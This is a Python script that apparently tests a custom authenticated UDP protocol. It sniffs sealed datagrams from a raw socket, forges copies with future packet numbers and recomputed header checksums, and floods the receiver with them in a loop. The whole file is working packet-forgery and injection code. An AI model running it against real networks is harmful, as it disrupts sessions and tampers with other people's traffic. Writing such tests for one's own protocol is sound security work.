"""Frames of an authenticated session as whoever reads and writes on the wire may make them: from its peer's address, all as in one
that has just gone by, seal included, but for a packet number that will come, and the checksum of that. It begins with the first that
goes by, and does not end.

usage: forge.py INTERFACE      behind which the session's receiver is
"""
import contextlib
import itertools
import socket
import struct
import sys

import frames

ETHERTYPE_ALL, OUTGOING = 3, 4
DATAGRAMS, SEALED, HEADER_BYTES = (8, 9), 4, 48
UDP_AT, FRAME_AT = 34, 42  # behind Ethernet's and IPv4's headers
AHEAD = range(500, 32500, 500)  # of the number that has gone by: what 32,000 frames a second reach within a second
TIMES = 8  # each


def gone_by(wire):
    """A whole packet with a sealed datagram, on its way to the receiver; none that went by earlier."""
    with contextlib.suppress(BlockingIOError):
        while True:
            wire.recv(1, socket.MSG_DONTWAIT)
    while True:
        packet, (_, ethertype, kind, *_) = wire.recvfrom(65536)
        frame = packet[FRAME_AT:]
        if kind == OUTGOING and ethertype == 0x0800 and packet[23] == socket.IPPROTO_UDP and len(frame) > HEADER_BYTES:
            magic, _, type_, flags = struct.unpack_from(">HBBH", frame)
            if magic == frames.MAGIC and type_ in DATAGRAMS and flags & SEALED:
                return packet


def forged(packet, ahead):
    """The same with another number, whose header's checksum and tag are right."""
    header, body = packet[FRAME_AT:FRAME_AT + HEADER_BYTES], packet[FRAME_AT + HEADER_BYTES:]
    def summed(header):
        return frames.crc32c(header[:12] + bytes(4) + header[16:])
    shown, number = struct.unpack_from(">I", header, 12)[0], struct.unpack_from(">Q", header, 16)[0]
    other = header[:16] + struct.pack(">Q", number + ahead) + header[24:]
    checked = struct.pack(">I", shown ^ summed(header) ^ summed(other))
    udp = packet[UDP_AT:UDP_AT + 6] + bytes(2)  # without a checksum
    return packet[:UDP_AT] + udp + other[:12] + checked + other[16:] + body


def main(interface):
    wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETHERTYPE_ALL))
    wire.bind((interface, 0))
    print("ready", flush=True)
    while True:
        packet = gone_by(wire)
        made = [forged(packet, ahead) for ahead in AHEAD]
        for frame in itertools.chain.from_iterable(itertools.repeat(made, TIMES)):
            with contextlib.suppress(OSError):  # no room in the queue
                wire.send(frame)


if __name__ == "__main__":
    main(*sys.argv[1:])
